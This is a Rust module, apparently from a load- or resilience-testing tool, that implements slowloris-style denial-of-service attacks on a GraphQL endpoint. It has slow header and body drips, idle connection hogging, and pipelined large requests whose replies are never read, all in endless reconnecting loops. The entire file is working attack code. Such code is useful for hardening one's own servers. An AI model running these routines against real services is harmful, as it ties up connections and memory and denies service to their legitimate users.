//! Attackers who take their time, many at once.

use super::{Target, documents};
use std::time::Duration;
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::TcpStream,
};

/// Between two bytes.
const DRIP: Duration = Duration::from_secs(1);

/// Begins with `start`, then sends a byte now and then; when it is cut off, it is back at once.
async fn drip(target: Target, start: &[u8]) {
    loop {
        if let Ok(mut stream) = TcpStream::connect(target.addr).await {
            target.hit();
            let dripping = async {
                stream.write_all(start).await?;
                loop {
                    tokio::time::sleep(DRIP).await;
                    stream.write_all(b"x").await?;
                }
            };
            let _: std::io::Result<()> = dripping.await;
        }
        tokio::time::sleep(DRIP / 10).await;
    }
}

pub async fn heads(target: Target) {
    drip(target, b"POST /graphql HTTP/1.1\r\nhost: x\r\nx: ").await;
}

/// Nearly all of a body, and then the rest of it byte by byte.
pub async fn bodies(target: Target) {
    let head = "POST /graphql HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ncontent-length: 262144\r\n\r\n";
    let start = [head.as_bytes(), &b" ".repeat(260_000)].concat();
    drip(target, &start).await;
}

pub async fn connections(target: Target) {
    loop {
        if let Ok(mut stream) = TcpStream::connect(target.addr).await {
            target.hit();
            // Nothing is said: until the other side has had enough.
            let _ = stream.read(&mut [0; 1024]).await;
        }
        tokio::time::sleep(DRIP / 10).await;
    }
}

/// Asks for the largest answer there is, a few times over, and reads nothing of it.
pub async fn readers(target: Target) {
    let body = documents::large();
    let body = String::from_utf8_lossy(&body);
    let request = format!(
        "POST /graphql HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ncontent-length: {}\r\n\r\n{body}",
        body.len()
    );
    let all = request.repeat(200);
    loop {
        if let Ok(mut stream) = TcpStream::connect(target.addr).await {
            target.hit();
            let _ = stream.write_all(all.as_bytes()).await;
            tokio::time::sleep(DRIP * 30).await;
        }
        tokio::time::sleep(DRIP / 10).await;
    }
}
